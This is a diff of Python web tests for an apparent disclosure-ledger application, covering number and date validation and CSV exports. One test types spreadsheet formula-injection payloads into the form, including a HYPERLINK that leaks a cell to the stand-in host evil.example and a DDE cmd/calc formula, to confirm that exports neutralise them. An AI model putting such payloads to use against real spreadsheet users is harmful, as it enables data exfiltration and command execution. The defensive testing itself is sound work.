@@ -24,6 +24,7 @@ from registry.answers.drift import drift
 from registry.cli import app as cli_app
 from registry.intake.deadletters import list_dead_letters
 from registry.ledger.disclosures import request_history
+from registry.reports.csvcell import cell
 from registry.web.listing import PAGE_SIZE
 
 from .conftest import all_text
@@ -193,6 +194,53 @@ def test_subject_lookup_without_the_subject_key_is_a_page(declared: sa.Engine, d
     assert "customer-1" not in form.text  # never echoed
 
 
+def test_the_number_of_people_takes_only_a_number_the_ledger_can_store(declared: sa.Engine, db_url: str) -> None:
+    client = _client(declared, db_url, "legal")
+    csrf = csrf_of(client, "/disclosures/new")
+    # "²" passes str.isdigit() but not int(); 4,400 digits pass the pattern of old but not int()'s
+    # digit limit; 26 nines are an int orjson cannot write (64-bit): each was a 500
+    for i, count in enumerate(("²", "9" * 4400, "9" * 26, "9223372036854775808", "-1", "3.5", "١٢")):
+        refused = client.post("/disclosures/new", data={**FORM, "request_id": f"N-{i}", "subject_count": count, "csrf_token": csrf})
+        assert refused.status_code == 422, count[:12]
+        summary = _text(refused.text.split('id="form-error">')[1].split("</div>")[0])
+        assert "Number of people concerned — is a whole number from 0 to 9223372036854775807" in summary, count[:12]
+    # shown with the others, not alone
+    both = client.post("/disclosures/new", data={**FORM, "request_id": "", "subject_count": "²", "csrf_token": csrf})
+    words = _text(both.text.split('id="form-error">')[1].split("</div>")[0])
+    assert "Request reference" in words and "Number of people concerned" in words and "2 fields need attention" in words
+    with declared.connect() as conn:
+        assert conn.exec_driver_sql("SELECT COUNT(*) FROM ledger_entry WHERE request_id LIKE 'N-%'").scalar_one() == 0
+    largest = client.post("/disclosures/new", data={**FORM, "request_id": "N-MAX", "subject_count": "9223372036854775807",
+                                                    "csrf_token": csrf}, follow_redirects=False)
+    assert largest.status_code == 303
+    assert request_history(declared, "N-MAX")[-1].data["subject_count"] == 2**63 - 1
+
+
+def test_csv_downloads_neutralise_formulas_typed_into_the_form(declared: sa.Engine, db_url: str) -> None:
+    client = _client(declared, db_url, "legal")
+    csrf = csrf_of(client, "/disclosures/new")
+    logged = {}
+    for start in ("=", "+", "-", "@"):
+        request_id, authority = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")', f"{start}SUM(1+1)*cmd|' /C calc'!A0"
+        answer = client.post("/disclosures/new", data={**FORM, "request_id": request_id, "authority": authority, "notice": "given",
+                                                       "subject_ids": "customer-77", "csrf_token": csrf},
+                             follow_redirects=False)
+        assert answer.status_code == 303, start
+        logged[request_id] = authority
+    listed = list(csv.DictReader(io.StringIO(client.get("/disclosures?format=csv&q=hyperlink").text)))
+    assert sorted(r["request_id"] for r in listed) == sorted("'" + r for r in logged)
+    assert sorted(r["authority"] for r in listed) == sorted("'" + a for a in logged.values())
+    answer15 = list(csv.DictReader(io.StringIO(client.get(f"/subject/answer?ref={ref('customer-77')}&format=csv").text)))
+    told = [r for r in answer15 if r["section"] == "disclosure"]
+    assert sorted(r["request_id"] for r in told) == sorted("'" + r for r in logged)
+    assert sorted(r["authority"] for r in told) == sorted("'" + a for a in logged.values())
+    # the page itself shows what was typed; only the spreadsheet cell is neutralised
+    page = html.unescape(client.get("/disclosures?q=hyperlink").text)
+    assert all(r in page and "'" + r not in page for r in logged)
+    # a form strips leading tabs and CRs, so the shared helper is checked for them directly
+    assert [cell(v) for v in ("\tcmd", "\rcmd", "-1", "a=b", "", 7, None)] == ["'\tcmd", "'\rcmd", "'-1", "a=b", "", 7, None]
+
+
 # --- words, lists, as-of --------------------------------------------------------------------
 
 def test_pages_show_names_with_the_key_on_hover(declared: sa.Engine, db_url: str) -> None:
@@ -279,8 +327,12 @@ def test_as_of_and_window_selectors_match_the_cli(declared: sa.Engine, db_url: s
     assert "as of" in page and f"/ropa/download?as_of={middle}&amp;format=xlsx" in page
     filtered = client.get("/datamap?recipient=stripe").text
     assert "Stripe" in filtered and filtered.count("<g id=\"node") < client.get("/datamap").text.count("<g id=\"node")
-    assert client.get("/recipients?category=user&since=2026-05-01&until=2026-04-01").status_code == 200
-    assert "Until (exclusive)" in client.get("/recipients?category=user&since=2026-05-01&until=2026-04-01").text
+    backwards = client.get("/recipients?category=user&since=2026-05-01&until=2026-04-01")
+    assert backwards.status_code == 422 and backwards.headers["content-type"].startswith("text/html")
+    assert re.search(r'<p class="error" role="alert">Until: must be after From</p>', backwards.text)
+    unknown = client.get("/recipients?category=user.no-such-kind")
+    assert unknown.status_code == 422 and '<p class="error" role="alert">' in unknown.text
+    assert client.get("/recipients?category=user").status_code == 200
 
 
 # --- status and errors ----------------------------------------------------------------------
@@ -296,6 +348,18 @@ def test_status_and_error_pages_for_browsers_json_for_the_api(declared: sa.Engin
     assert api.status_code == 404 and api.headers["content-type"] == "application/json"
     wrong = client.get("/disclosures/report?year=abc")
     assert wrong.status_code == 422 and wrong.headers["content-type"].startswith("text/html")
+    # a year or half the downloads refuse is refused on the page too, never swapped for another period
+    for query in (f"year={10**30}", "year=1969", "year=9999", f"year=2026&half={10**30}", "year=2026&half=3", "year=²"):
+        refused = client.get(f"/disclosures/report?{query}")
+        assert refused.status_code == 422 and refused.headers["content-type"].startswith("text/html"), query
+        assert "Transparency report" not in refused.text and "<nav" in refused.text, query
+        problem = "Period: is 1 (January–June) or 2 (July–December)." if "half" in query else "Year: is a year from 1970 to 9998."
+        assert problem in html.unescape(refused.text), query
+        assert client.get(f"/disclosures/report/download?{query}").status_code == 422, query
+    whole = client.get("/disclosures/report?year=2026&half=")  # the form's "Whole year"
+    assert whole.status_code == 200 and "Transparency report 2026" in html.unescape(whole.text)
+    half = client.get("/disclosures/report?year=2026&half=1")
+    assert half.status_code == 200 and "Transparency report 2026-H1" in half.text
     assert client.get("/api/disclosures/report?year=abc", headers={"Authorization": "Bearer x"}).status_code in (401, 422)
     signed_out = TestClient(client.app).get("/nowhere")
     assert signed_out.status_code == 404 and "Sign in" in signed_out.text
